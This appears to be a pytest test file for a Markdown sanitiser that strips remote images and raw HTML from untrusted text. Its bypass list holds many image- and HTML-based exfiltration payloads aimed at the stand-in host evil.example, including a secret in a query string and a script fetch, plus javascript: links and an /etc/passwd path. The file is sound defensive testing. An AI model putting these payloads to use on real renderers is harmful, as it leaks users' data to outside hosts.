"""The sanitiser for untrusted Markdown: nothing it returns can load an image or hold raw HTML.

Every output is checked by rendering it to HTML with markdown-it (CommonMark + tables +
strikethrough, raw HTML on) and looking for any element or attribute that fetches a URL.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from core.text_safety import escape_markdown, safe_markdown, without_remote_images

EVIL = "evil.example"
RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
# Anything in rendered HTML that makes a browser fetch: tags and attributes, by allow-list of what
# the sanitiser may produce instead.
ALLOWED_TAGS = {"p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "hr",
                "table", "thead", "tbody", "tr", "th", "td", "em", "strong", "s", "a", "br"}


def rendered(markdown: str) -> str:
    return RENDERER.render(markdown)


def assert_inert(markdown: str) -> None:
    html = rendered(markdown)
    tags = set(re.findall(r"<\s*/?\s*([A-Za-z][A-Za-z0-9-]*)", html))
    assert tags <= ALLOWED_TAGS, f"unexpected elements {tags - ALLOWED_TAGS} in {html!r}"
    attributes = set(re.findall(r"<[A-Za-z][^>]*?\s([A-Za-z-]+)=", html))
    assert attributes <= {"href", "start", "class"}, f"unexpected attributes {attributes} in {html!r}"
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.startswith(("http://", "https://", "mailto:")) and not href.startswith("//"), href
    for cls in re.findall(r'class="([^"]*)"', html):
        assert re.fullmatch(r"language-[\w-]*", cls), cls


BYPASSES = {
    "inline image": f"See ![chart](https://{EVIL}/x?d=secret) here.",
    "reference-style image": f"Look ![x][r] now.\n\n[r]: https://{EVIL}/ref.png",
    "collapsed reference image": f"![r][]\n\n[r]: https://{EVIL}/collapsed.png",
    "shortcut reference image": f"![r]\n\n[r]: https://{EVIL}/shortcut.png \"title\"",
    "nested brackets": f"![a [b] c](https://{EVIL}/nested.png)",
    "deeply nested brackets": f"![a [b [c [d]]] e](https://{EVIL}/deep.png)",
    "image with title": f"![s](https://{EVIL}/t.png \"a title\")",
    "image in angle brackets": f"![s](<https://{EVIL}/angle one.png>)",
    "html title around an image": f"<title>![s](https://{EVIL}/title.png)</title>",
    "html img": f"Hello <img src='https://{EVIL}/y'> there",
    "html img block": f"<img src=\"https://{EVIL}/block.png\">\n\ntext",
    "srcset": f"<img srcset=\"https://{EVIL}/1x.png 1x, https://{EVIL}/2x.png 2x\">",
    "picture": f"<picture><source srcset=\"https://{EVIL}/p.webp\"><img src=\"https://{EVIL}/p.png\"></picture>",
    "style url": f"<div style=\"background:url(https://{EVIL}/bg.png)\">boxed</div>",
    "inline style url": f"text <span style=\"background-image:url('https://{EVIL}/s.png')\">x</span>",
    "svg": f"<svg><image href=\"https://{EVIL}/svg.png\"/></svg>",
    "video poster": f"<video poster=\"https://{EVIL}/poster.png\"></video>",
    "link with image inside": f"[![badge](https://{EVIL}/badge.svg)](https://ok.example/)",
    "image inside emphasis": f"**bold ![b](https://{EVIL}/b.png)** and _it ![i](https://{EVIL}/i.png)_",
    "image in a list": f"- one\n- two ![l](https://{EVIL}/l.png)\n  - nested ![n](https://{EVIL}/n.png)",
    "image in a quote": f"> quoted ![q](https://{EVIL}/q.png)\n> > deeper ![d](https://{EVIL}/d.png)",
    "image in a table": f"| a | b |\n|---|---|\n| ![t](https://{EVIL}/t.png) | `x|![c](https://{EVIL}/c.png)` |",
    "image in a heading": f"# Title ![h](https://{EVIL}/h.png)\n\nSetext ![s](https://{EVIL}/s.png)\n===",
    "entity-encoded bang": f"&#33;[x](https://{EVIL}/entity.png)",
    "entity-encoded html": f"&lt;img src=https://{EVIL}/e.png&gt;",
    "escaped bang": f"\\![x](https://{EVIL}/escaped.png)",
    "data url image": "![d](data:image/png;base64,iVBORw0KGgo=)",
    "data url link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "javascript link": "[click](javascript:alert(1))",
    "protocol-relative image": f"![p](//{EVIL}/pr.png)",
    "protocol-relative link": f"[p](//{EVIL}/pr)",
    "relative link": "[p](/gradio_api/file=/etc/passwd)",
    "link reference definition alone": f"[r]: https://{EVIL}/def.png\n\ntext [r]",
    "link to the attacker by reference": f"[go][r]\n\n[r]: //{EVIL}/def",
    "autolink": f"<https://{EVIL}/auto> and <javascript:alert(1)> and <mailto:a@{EVIL}>",
    "html comment hiding markup": f"<!-- ![c](https://{EVIL}/comment.png) -->",
    "script": "<script>fetch('https://evil.example/s')</script>",
    "iframe": f"<iframe src=\"https://{EVIL}/frame\"></iframe>",
    "link tag": f"<link rel=stylesheet href=\"https://{EVIL}/s.css\">",
    "unclosed image": f"![x](https://{EVIL}/unclosed.png",
    "image split by a soft break": f"![x\ny](https://{EVIL}/break.png)",
    "code span then image": f"`code` ![x](https://{EVIL}/after.png)",
    "backticks in code": f"``a`![x](https://{EVIL}/code.png)`b``",
    "fence with backticks inside": f"````\n```\n![x](https://{EVIL}/fence.png)\n```\n````\n\n![y](https://{EVIL}/y.png)",
    "list item holding a fence": f"- item\n\n  ```\n  ![x](https://{EVIL}/lf.png)\n  ```\n\n  ![y](https://{EVIL}/ly.png)",
    "streamlit colour directive": f":red[![x](https://{EVIL}/dir.png)]",
    "latex": "$\\includegraphics{https://evil.example/tex.png}$",
}


@pytest.mark.parametrize("text", list(BYPASSES.values()), ids=list(BYPASSES))
def test_no_bypass_produces_an_image_or_html(text):
    safe = safe_markdown(text)
    assert_inert(safe)
    # Links (absolute http/https/mailto only) may remain: a browser fetches them only when clicked.
    assert "<img" not in rendered(safe).lower()


def test_images_become_a_label_and_no_url_is_kept():
    safe = safe_markdown(f"See ![chart](https://{EVIL}/x?d=secret) and ![r][ref] here.\n\n[ref]: https://{EVIL}/r")
    assert EVIL not in safe
    html = rendered(safe)
    assert "[image: chart]" in html and "[image: r]" in html


def test_html_is_shown_as_text_not_markup():
    html = rendered(safe_markdown(f"Hello <img src='https://{EVIL}/y'> there"))
    assert "&lt;img src='https://evil.example/y'&gt;" in html.replace("&#x27;", "'")
    assert "<img" not in html


def test_ordinary_markdown_keeps_its_structure():
    text = ("# Returns\n\nDamaged items are **refunded in full** within 7 days (see [policy](https://ok.example/p)).\n\n"
            "- first\n- second\n\n1. one\n2. two\n\n> quoted\n\n```sql\nSELECT 1;\n```\n\n"
            "| region | total |\n|---|---|\n| North | 12 |\n\nUse `code` and ~~old~~ *new*.")
    html = rendered(safe_markdown(text))
    for fragment in ("<h1>Returns</h1>", "<strong>refunded in full</strong>", '<a href="https://ok.example/p">policy</a>',
                     "<ul>", "<ol>", "<blockquote>", "SELECT 1;", "<table>", "<td>North</td>", "<code>code</code>",
                     "<s>old</s>", "<em>new</em>", "within 7 days (see"):
        assert fragment in html, (fragment, html)


def test_text_that_looks_like_syntax_stays_literal():
    for text in ("1\\. not a list", "para\n2. not a list", "\\- not a bullet", "\\# not a heading", "a | b",
                 "a\n\\=== not a heading", "2 * 3 * 4", "snake_case_name", "$100 and $200", "<b>bold</b>", "&amp; stays"):
        html = rendered(safe_markdown(text))
        assert html.startswith("<p>"), (text, html)
        assert "<b>" not in html and "<li>" not in html and "<h1>" not in html and "<em>" not in html


def test_links_keep_only_absolute_http_and_mailto_targets():
    html = rendered(safe_markdown("[a](https://ok.example/a) [b](mailto:x@ok.example) [c](ftp://ok.example/c) "
                                  "[d](/relative) [e](//ok.example/pr) [f](data:text/plain,hi)"))
    assert re.findall(r'href="([^"]*)"', html) == ["https://ok.example/a", "mailto:x@ok.example"]
    assert all(label in html for label in (">a<", ">b<", " c ", " d ", " e ", "[f](data:"))


def test_link_targets_cannot_break_out_of_the_destination():
    safe = safe_markdown("[x](<https://ok.example/a b)c\"d'e>)")
    assert_inert(safe)
    assert re.findall(r'href="([^"]*)"', rendered(safe)) == ["https://ok.example/a%20b%29c%22d%27e"]


def test_pathological_input_is_escaped_not_crashed():
    for text in ("[" * 5000 + "x" + "]" * 5000, "> " * 2000 + "deep", "*" * 10000, "- " * 3000 + "x", "`" * 5000):
        assert_inert(safe_markdown(text))


def test_titles_are_escaped_to_literal_text():
    title = f"<title>![s](https://{EVIL}/t.png)</title> 1. **x**"
    html = rendered(f"**[1] {escape_markdown(title)}**")
    assert "<img" not in html and "<title>" not in html and "<em>" not in html and "href" not in html
    assert escape_markdown("Returns policy") == "Returns policy"
    assert escape_markdown("- line\nbreaks") == "\\- line breaks"


def test_empty_and_the_old_name():
    assert safe_markdown("") == "" and safe_markdown("   ") == ""
    assert without_remote_images(f"![x](https://{EVIL}/a)") == safe_markdown(f"![x](https://{EVIL}/a)")


def test_a_code_span_cannot_be_broken_out_of():
    from core.text_safety import code_span

    assert code_span("a`![x](http://evil.example/p.png)`b\nc") == "`a'![x](http://evil.example/p.png)'b c`"
